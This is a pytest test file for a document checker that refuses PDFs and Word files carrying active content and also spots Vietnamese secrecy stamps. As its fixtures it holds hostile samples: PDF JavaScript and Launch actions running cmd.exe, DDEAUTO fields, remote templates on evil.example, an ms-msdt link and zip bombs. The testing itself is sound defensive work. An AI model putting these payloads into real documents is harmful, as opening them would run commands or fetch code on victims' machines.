"""Documents that would do something on the phone or machine that opens them are refused by name (R33, ASVS V5)."""

from __future__ import annotations

import io
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from pypdf import PdfWriter

from nhipcau.bot.language.catalogue import texts
from nhipcau.privacy.document_check import NotADocument, recognise
from nhipcau.privacy.document_dangers import Reason
from tests.support.documents import OLE, doc, docx, pdf

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DATA = Path(__file__).parents[1] / "support" / "data"


def why(data: bytes) -> Reason | None:
    """Why it is refused; None: it is taken."""
    try:
        recognise(data)
    except NotADocument as refusal:
        return refusal.reason
    return None


def with_object(words: bytes) -> bytes:
    return pdf().replace(b"trailer", b"4 0 obj" + words + b"endobj\ntrailer")


def packed(words: bytes) -> bytes:
    """In a compressed stream of objects, as PDF 1.5 has it."""
    content = zlib.compress(b"4 0 " + words)
    about = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>" % len(content)
    return with_object(about + b"stream\r\n" + content + b"\nendstream ")


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (with_object(SCRIPT), Reason.SCRIPT),
        (with_object(b"<</S/J#61vaScript/J#53(app.alert(1))>>"), Reason.SCRIPT),
        (packed(SCRIPT), Reason.SCRIPT),
        (with_object(b"<</OpenAction<</S/JavaScript/JS 5 0 R>>>>"), Reason.SCRIPT),
        (with_object(b"<</AcroForm<</XFA 5 0 R>>>>"), Reason.SCRIPT),
        # hidden between marks of a stream that is none
        (with_object(b"%stream\n" + SCRIPT + b"\nendstream "), Reason.SCRIPT),
        (with_object(b"<</S/Launch/F(cmd.exe)>>"), Reason.PROGRAM),
        (packed(b"<</S/#4caunch/F(cmd.exe)>>"), Reason.PROGRAM),
        (with_object(b"<</Names<</EmbeddedFiles 5 0 R>>>>"), Reason.PROGRAM),
        (with_object(b"<</Type/EmbeddedFile>>"), Reason.PROGRAM),
        (with_object(b"<</Subtype/RichMedia>>"), Reason.PROGRAM),
        (b"%PDF-1.4\n<html><script>alert(1)</script></html>\n" + pdf(), Reason.MIXED),
        (pdf() + b"\n<!DOCTYPE html><script src=x></script>", Reason.MIXED),
        (pdf() + docx(), Reason.MIXED),
        (with_object(b"<</OpenAction[3 0 R/Fit]/Names<</Dests 5 0 R>>>>"), None),
        (with_object(b"<</Length 3>>stream\n/JS /XFA\nendstream "), None),
    ],
)
def test_a_pdf_that_does_something_is_refused(data: bytes, reason: Reason | None) -> None:
    assert why(data) is reason


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    relation = f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
    return docx({"word/_rels/settings.xml.rels": f"<Relationships>{relation}</Relationships>"})


def field(*runs: str) -> bytes:
    told = "".join(f"<w:r><w:instrText xml:space='preserve'>{run}</w:instrText></w:r>" for run in runs)
    return docx({"word/document.xml": f"<w:document>{told}</w:document>"})


def inside(content: bytes, name: str = "word/embeddings/Sheet1.xlsx") -> bytes:
    return docx({name: content})


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (related("attachedTemplate", "https://evil.example/a.dotm"), Reason.REMOTE),
        (related("attachedTemplate", "https&#58;//evil.example/a.dotm"), Reason.REMOTE),
        (related("attachedTemplate", r"\\evil.example\share\a.dotm"), Reason.REMOTE),
        (related("attachedTemplate", "file://evil.example/share/a.dotm"), Reason.REMOTE),
        (related("image", "http://evil.example/p.png"), Reason.REMOTE),
        (related("oleObject", "mhtml:http://evil.example/x!x"), Reason.REMOTE),
        (related("frame", "//evil.example/x"), Reason.REMOTE),
        (related("hyperlink", "ms-msdt:/id PCWDiagnostic"), Reason.PROGRAM),
        (related("hyperlink", "javascript:alert(1)"), Reason.PROGRAM),
        (related("vbaProject", "macros.bin", ""), Reason.MACROS),
        (related("oleObject", "embeddings/oleObject1.bin", ""), Reason.PROGRAM),
        # as Word writes them by itself, and what opens only where somebody presses it
        (related("attachedTemplate", "file:///C:\\Users\\lan\\Templates\\congvan.dotx"), None),
        (related("hyperlink", "https://chinhphu.vn/a?b=1"), None),
        (related("hyperlink", "mailto:ubnd@langson.gov.vn"), None),
        (related("image", "media/image1.png", ""), None),
        (field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), Reason.PROGRAM),
        (field(" DD", "E", "AUTO cmd "), Reason.PROGRAM),
        (field("<![CDATA[DDE]]>AUTO cmd"), Reason.PROGRAM),
        (field("DD<!-- --><w:x/>E cmd"), Reason.PROGRAM),
        (docx({"word/document.xml": '<!DOCTYPE d [<!ENTITY e "DDE">]><w:document>&e;</w:document>'}), Reason.MIXED),
        (docx({"word/document.xml": '<?xml version="1.0" encoding="utf-7"?><w:document/>'}), Reason.MIXED),
        (docx({"word/header1.xml": '<w:fldSimple w:instr="dde cmd"/>'}), Reason.PROGRAM),
        (field(" PAGE "), None),
        (docx({"word/embeddings/oleObject1.bin": OLE}), Reason.PROGRAM),
        (inside(OLE + bytes(600)), Reason.PROGRAM),
        (inside(docx({"xl/vbaProject.bin": b"x"})), Reason.MACROS),
        (inside(docx({"xl/externalLinks/l.xml": "<ddeLink ddeService='cmd'/>"})), Reason.PROGRAM),
        (inside(inside(inside(docx()))), Reason.UNFOLDS),
        (inside(docx({"xl/worksheets/sheet1.xml": "<sheet/>"})), None),
        (docx({"word/document.xml": b"<w:document>" + b" " * 21_000_000}), Reason.UNFOLDS),
        (doc("WordDocument", "ObjectPool/_1042/\x01Ole10Native"), Reason.PROGRAM),
        (doc("WordDocument", words=b"\xec\xa5\xc1\0" + bytes(28) + b"\x13 DDEAUTO cmd"), Reason.PROGRAM),
    ],
)
def test_a_word_file_that_does_something_is_refused(data: bytes, reason: Reason | None) -> None:
    assert why(data) is reason


def words(*paragraphs: str) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{paragraph}</w:t></w:r></w:p>" for paragraph in paragraphs)
    return docx({"word/document.xml": f"<w:document>{body}</w:document>"})


@pytest.mark.parametrize(
    ("lines", "is_secret"),
    [
        (["ỦY BAN NHÂN DÂN", "MẬT", "Số: 12/BC-UBND"], True),
        (["TỐI MẬT"], True),
        (["Độ mật: TUYỆT MẬT"], True),
        (["MẬT"], True),
        (["Quy chế bảo vệ bí mật nhà nước", "BÍ MẬT NHÀ NƯỚC", "BẢO MẬT"], False),
        (["Văn bản có đóng dấu MẬT thì không được gửi qua mạng xã hội."], False),
        (["mật ong", "MẬT ONG RỪNG"], False),
    ],
)
def test_a_stamp_of_secrecy_in_the_text_is_found(lines: list[str], is_secret: bool) -> None:
    expected = Reason.SECRET if is_secret else None
    assert why(words(*lines)) is expected
    old = doc("WordDocument", words=b"\xec\xa5\xc1\0" + bytes(28) + "\r".join(["", *lines, ""]).encode("utf-16-le"))
    assert why(old) is expected


def test_a_stamp_in_a_header_or_in_pieces_is_found() -> None:
    pieces = "<w:hdr><w:p><w:r><w:t>TỐI </w:t></w:r><w:r><w:t>M&#7852;T</w:t></w:r></w:p></w:hdr>"
    assert why(docx({"word/header1.xml": pieces})) is Reason.SECRET


@pytest.mark.slow
@pytest.mark.parametrize("algorithm", [None, "AES-128"])
def test_a_pdfs_pages_are_read_though_it_is_encrypted(algorithm: str | None) -> None:
    for name, reason in (("secret-stamp", Reason.SECRET), ("script", Reason.SCRIPT)):
        data = (DATA / f"{name}.pdf").read_bytes()
        if algorithm:
            data = encrypted(data, "", algorithm)
        assert why(data) is reason


@pytest.mark.slow
def test_a_pdf_behind_a_password_is_said_to_be_locked() -> None:
    assert why(encrypted((DATA / "secret-stamp.pdf").read_bytes(), "mật khẩu", "RC4-128")) is Reason.LOCKED


def encrypted(data: bytes, password: str, algorithm: str) -> bytes:
    writer, out = PdfWriter(clone_from=io.BytesIO(data)), io.BytesIO()
    writer.encrypt(password, "owner", algorithm=algorithm)
    writer.write(out)
    return out.getvalue()


def test_every_reason_has_its_sentences() -> None:
    for language in ("vi", "en"):
        say = texts(language)
        for reason in set(Reason) - {Reason.OTHER}:
            assert say(f"wrong.file_{reason}")


@pytest.mark.slow
def test_hostile_files_are_looked_at_in_time() -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        for n in range(9):
            made.writestr(f"word/part{n}.xml", bytes(19_000_000))
    hostile = [
        b"%PDF-1.4\n" + b"stream\n" * 700_000,
        b"%PDF-1.4\n" + b"<" * 4_900_000,
        b"%PDF-1.4\n" + b"#" * 4_900_000,
        b"%PDF-1.4\n" + b"/J" * 2_400_000,
        packed(b" " * 10_000_000),
        field("D" * 4_000_000),
        docx({"word/_rels/a.rels": "<Relationship " * 300_000}),
        docx({"word/document.xml": "<" * 4_000_000}),
        docx({"word/document.xml": "<w:instrText" * 400_000}),
        bomb.getvalue(),
    ]
    for number, data in enumerate(hostile):
        began = time.monotonic()
        why(data)
        assert time.monotonic() - began < 20, number
